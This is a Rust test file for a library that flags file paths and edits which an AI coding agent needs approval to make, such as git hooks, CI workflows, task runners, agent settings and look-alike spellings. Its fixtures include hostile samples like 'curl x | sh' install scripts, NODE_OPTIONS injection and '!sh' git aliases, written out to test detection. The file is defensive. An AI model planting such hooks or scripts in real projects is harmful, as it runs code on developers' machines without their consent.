//! Cases from real projects and reported attacks: what needs approval, and what an agent writes every day and must not.

use std::path::Path;

use sensitive_paths::{sensitive_change, sensitive_path};

/// Files that are sensitive whatever they contain.
const ALWAYS: &[&str] = &[
    // Git's own files, and those that its configuration points to.
    ".git/hooks/pre-commit",
    ".git/config",
    ".git/info/attributes",
    ".git/modules/lib/config",
    ".git/worktrees/x/config.worktree",
    ".git",
    "lib/.git",
    "deep/er/.git/hooks/x",
    ".gitconfig",
    "tools/githooks/pre-push",
    "scripts/commit-msg",
    "fixtures/repo.git/hooks/post-receive",
    "fixtures/repo.git/hooks/update",
    "fixtures/repo.git/commondir",
    ".hg/hgrc",
    // Managers of git hooks, in every spelling they accept.
    ".githooks/pre-commit.sh",
    ".husky/pre-push",
    ".husky/_/husky.sh",
    ".huskyrc.json",
    "lefthook.yml",
    "lefthook.yaml",
    "lefthook.toml",
    "lefthook.json",
    ".lefthook.yml",
    "lefthook-local.yml",
    ".config/lefthook.yml",
    ".lefthook/pre-commit/check.sh",
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    ".pre-commit-hooks.yaml",
    ".lintstagedrc",
    "lint-staged.config.mjs",
    ".simple-git-hooks.cjs",
    // Tasks.
    "Makefile",
    "GNUmakefile",
    "sub/makefile",
    "build/rules.mk",
    "justfile",
    ".justfile",
    "ci.just",
    "Taskfile.yml",
    "Taskfile.dist.yaml",
    "mise.toml",
    ".mise.local.toml",
    "Rakefile",
    "lib/tasks/db.rake",
    "gulpfile.js",
    "tox.ini",
    // Toolchains and package managers.
    ".cargo/config.toml",
    ".cargo/config",
    "crates/x/.cargo/config.toml",
    ".npmrc",
    ".yarnrc.yml",
    ".yarn/releases/yarn-4.1.0.cjs",
    ".pnpmfile.cjs",
    "gradlew",
    "gradle/wrapper/gradle-wrapper.properties",
    ".mvn/extensions.xml",
    ".bazelrc",
    "tools/bazel",
    "node_modules/.bin/tsc",
    // Shells and the user's environment.
    ".envrc",
    "flake.nix",
    ".bashrc",
    ".zshenv",
    ".profile",
    ".ssh/config",
    ".config/fish/config.fish",
    "Library/LaunchAgents/x.plist",
    // Editors.
    ".vscode/tasks.json",
    ".vscode/settings.json",
    "app.code-workspace",
    ".idea/workspace.xml",
    ".idea/runConfigurations/app.xml",
    ".run/app.run.xml",
    ".zed/tasks.json",
    ".exrc",
    ".nvim.lua",
    ".dir-locals.el",
    "app.sublime-project",
    ".devcontainer/devcontainer.json",
    ".devcontainer.json",
    ".gdbinit",
    // Continuous integration.
    ".github/workflows/ci.yml",
    ".github/actions/setup/action.yml",
    ".gitlab-ci.yml",
    "ci/build.gitlab-ci.yml",
    ".gitlab/ci/test.yml",
    ".circleci/config.yml",
    ".travis.yml",
    "azure-pipelines-release.yml",
    "bitbucket-pipelines.yml",
    "Jenkinsfile",
    ".buildkite/pipeline.yml",
    ".drone.yml",
    ".woodpecker/test.yml",
    ".forgejo/workflows/ci.yml",
    // Agents.
    ".claude/settings.json",
    ".claude/settings.local.json",
    ".codex/config.toml",
    ".cursor/mcp.json",
    ".mcp.json",
    "sub/.mcp.json",
    ".gemini/settings.json",
    "opencode.json",
    ".kiro/hooks/x.json",
    // Spellings that a file system takes for one of the above.
    ".GIT/hooks/x",
    ".Git./config",
    ".git /config",
    "GIT~1/config",
    ".g\u{200c}it/config",
    ".\u{17f}\u{17f}h/config",
    ".GitHub/Workflows/ci.yml",
    "MAKEFILE",
    "./sub/./Makefile",
];

/// Files that an agent writes every day.
const NEVER: &[&str] = &[
    "src/main.rs",
    "build.rs",
    "src/config.rs",
    "src/git/hooks/useHook.ts",
    "src/hooks/use-pre-commit.ts",
    "hooks/update.ts",
    "bin/update",
    "lib/makefile.rs",
    "docs/makefile.md",
    "docs/pre-commit/intro.md",
    "test/conftest.py",
    "vite.config.ts",
    "eslint.config.js",
    "tsconfig.json",
    "Cargo.toml",
    "go.mod",
    "requirements.txt",
    "build.gradle",
    "CMakeLists.txt",
    "Dockerfile",
    ".docker/php/Dockerfile",
    "README.md",
    "AGENTS.md",
    "CLAUDE.md",
    "CHANGELOG.md",
    ".gitignore",
    ".gitkeep",
    ".git-notes.md",
    ".git-blame-ignore-revs",
    ".editorconfig",
    ".prettierrc",
    ".github/ISSUE_TEMPLATE/bug.md",
    ".github/CODEOWNERS",
    ".gitlab/issue_templates/bug.md",
    ".nvmrc",
    "git/hooks/x",
    "claude/settings.json",
    "vscode/tasks.json",
    "config/settings.json",
    "config.toml",
    "mise/notes.md",
    "locales/husky.json",
    "schema.sql",
];

const PACKAGE: &str = r#"{"name": "app", "version": "1.0.0", "scripts": {"test": "vitest", "build": "tsc"}, "dependencies": {"a": "^1"}}"#;

/// A file, its content before (`""`: there is none) and after, and whether the change needs approval.
const CHANGES: &[(&str, &str, &str, bool)] = &[
    // npm: dependencies and metadata are harmless, what runs is not.
    (
        "package.json",
        PACKAGE,
        r#"{"name": "app", "version": "2.0.0", "scripts": {"test": "vitest", "build": "tsc"}, "dependencies": {"a": "^2", "b": "1"}, "bin": {"x": "x.js"}}"#,
        false,
    ),
    (
        "package.json",
        PACKAGE,
        "{\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"test\": \"vitest\"\n  }\n}\n",
        false,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"name": "app", "scripts": {"test": "vitest"}}"#,
        false,
    ),
    ("package.json", PACKAGE, r#"{"name": "app"}"#, false),
    (
        "package.json",
        "",
        r#"{"name": "app", "dependencies": {"a": "^1"}}"#,
        false,
    ),
    ("package.json", PACKAGE, PACKAGE, false),
    (
        "package.json",
        "",
        r#"{"scripts": {"postinstall": "curl x | sh"}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"scripts": {"test": "vitest; curl x | sh", "build": "tsc"}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"scripts": {"pretest": "x", "test": "vitest", "build": "tsc"}}"#,
        true,
    ),
    (
        "packages/a/package.json",
        PACKAGE,
        r#"{"husky": {"hooks": {"pre-commit": "x"}}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"lint-staged": {"*.js": "x"}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"simple-git-hooks": {"pre-commit": "x"}}"#,
        true,
    ),
    ("package.json", PACKAGE, r#"{"pre-commit": ["x"]}"#, true),
    (
        "package.json",
        PACKAGE,
        r#"{"pnpm": {"onlyBuiltDependencies": ["x"]}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"packageManager": "yarn@https://example.com/x.js"}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"scripts": {}, "scripts": {"test": "x"}}"#,
        true,
    ),
    (
        "package.json",
        PACKAGE,
        r#"{"\u0073cripts": {"test": "x"}}"#,
        true,
    ),
    ("package.json", PACKAGE, "{\"scripts\": ", true),
    ("package.json", "not JSON", PACKAGE, true),
    (
        "Package.JSON",
        PACKAGE,
        r#"{"scripts": {"test": "x"}}"#,
        true,
    ),
    // Other files with a harmless part.
    (
        "composer.json",
        "{}",
        r#"{"require": {"a/b": "^1"}}"#,
        false,
    ),
    (
        "composer.json",
        "{}",
        r#"{"scripts": {"post-install-cmd": "x"}}"#,
        true,
    ),
    ("deno.json", "{}", r#"{"imports": {"a": "jsr:a"}}"#, false),
    ("deno.json", "{}", r#"{"tasks": {"dev": "x"}}"#, true),
    (
        "libs/a/project.json",
        "{}",
        r#"{"targets": {"build": {"command": "x"}}}"#,
        true,
    ),
    (
        "locales/project.json",
        "{}",
        r#"{"title": "Project"}"#,
        false,
    ),
    (
        "pyproject.toml",
        "[project]\nname = 'x'\n",
        "[project]\nname = 'x'\ndependencies = ['a']\n[tool.ruff]\nline-length = 100\n",
        false,
    ),
    (
        "pyproject.toml",
        "",
        "[build-system]\nrequires = []\nbuild-backend = 'x'\nbackend-path = ['.']\n",
        true,
    ),
    ("pyproject.toml", "", "[tool.poe.tasks]\ntest = 'x'\n", true),
    (
        "rust-toolchain.toml",
        "",
        "[toolchain]\nchannel = '1.95'\n",
        false,
    ),
    (
        "rust-toolchain.toml",
        "",
        "[toolchain]\npath = 'tools'\n",
        true,
    ),
    (
        "pnpm-workspace.yaml",
        "packages:\n  - a\n",
        "packages:\n  - a\n  - b\n",
        false,
    ),
    (
        "pnpm-workspace.yaml",
        "packages:\n  - a\n",
        "onlyBuiltDependencies:\n  - x\n",
        true,
    ),
    (".env", "A=1\n", "A=2\nPORT=3000\n", false),
    (".env.local", "", "NODE_OPTIONS=--require ./x.js\n", true),
    (
        ".env",
        "PYTHONPATH=src\nA=1\n",
        "PYTHONPATH=src\nA=2\n",
        false,
    ),
    (
        ".gitattributes",
        "",
        "* text=auto\n*.png filter=lfs diff=lfs merge=lfs -text\n*.rs diff=rust\nCHANGELOG.md merge=union\n",
        false,
    ),
    (
        ".gitattributes",
        "* text=auto\n",
        "* text=auto\n*.c filter=indent\n",
        true,
    ),
    (
        ".gitmodules",
        "",
        "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n",
        false,
    ),
    (
        ".gitmodules",
        "",
        "[submodule \"x\"]\n\tpath = x\n\turl = https://example.com/x\n\tupdate = !sh x\n",
        true,
    ),
    // A file that `include.path` names may have any name.
    (
        "tools/shared.cfg",
        "",
        "[core]\n\tfsmonitor = ./tools/x\n",
        true,
    ),
    ("tools/shared.cfg", "", "[alias]\n\tst = !sh x\n", true),
    (
        "tools/shared.cfg",
        "[alias]\n\tst = status\n",
        "[alias]\n\tst = status\n[user]\n\tname = Ann\n",
        false,
    ),
    ("tools/shared.cfg", "", "[user]\n\tname = Ann\n", false),
    (
        "docs/git.md",
        "",
        "# Git\n\nSet the monitor:\n\n```\n[core]\n\tfsmonitor = ./x\n```\n",
        false,
    ),
    (
        "setup.cfg",
        "",
        "[metadata]\nname = x\n[flake8]\nmax-line-length = 100\n",
        false,
    ),
    // An embedded bare repository: HEAD makes a folder one, its config and hooks run.
    ("fixtures/repo/HEAD", "", "ref: refs/heads/main\n", true),
    (
        "fixtures/repo/head",
        "",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709\n",
        true,
    ),
    ("docs/HEAD", "", "Notes on the head\n", false),
    (
        "fixtures/repo/config",
        "[core]\n\tbare = true\n",
        "[core]\n\tbare = true\n\tfsmonitor = ./x\n",
        true,
    ),
    ("fixtures/repo/config", "", "[core]\n\tbare = true\n", false),
    ("fixtures/repo/objects/info/packs", "", "P x.pack\n", false),
    // No change of a file that is always sensitive is harmless.
    ("Makefile", "all:\n", "all:\n", true),
];

fn change(path: &str, before: &str, after: &str) -> Option<&'static str> {
    let before = (!before.is_empty()).then_some(before.as_bytes());
    sensitive_change(Path::new(path), before, after.as_bytes())
}

#[test]
fn files_that_run_something_are_sensitive_in_every_spelling() {
    for path in ALWAYS {
        assert!(sensitive_path(Path::new(path)).is_some(), "{path}");
        let changed = change(path, "", "x");
        assert!(changed.is_some(), "{path} with any content");
    }
}

#[test]
fn files_that_an_agent_writes_every_day_are_not_sensitive() {
    for path in NEVER {
        assert_eq!(sensitive_path(Path::new(path)), None, "{path}");
        assert_eq!(change(path, "old\n", "let x = 1;\n"), None, "{path}");
    }
}

#[test]
fn change_is_sensitive_only_if_it_adds_what_runs() {
    for (path, before, after, expected) in CHANGES {
        let found = change(path, before, after);
        assert_eq!(found.is_some(), *expected, "{path}: {after}: {found:?}");
    }
}

/// Callers may check without the old content first, and read it only if the answer is not `None`.
#[test]
fn old_content_only_ever_makes_a_change_less_sensitive() {
    for (path, before, after, _) in CHANGES {
        if change(path, before, after).is_some() {
            assert!(change(path, "", after).is_some(), "{path}: {after}");
        }
    }
}

#[test]
fn unknown_content_of_a_listed_file_is_sensitive() {
    for path in ["package.json", "sub/HEAD", ".gitattributes", ".env"] {
        assert!(sensitive_path(Path::new(path)).is_some(), "{path}");
    }
}
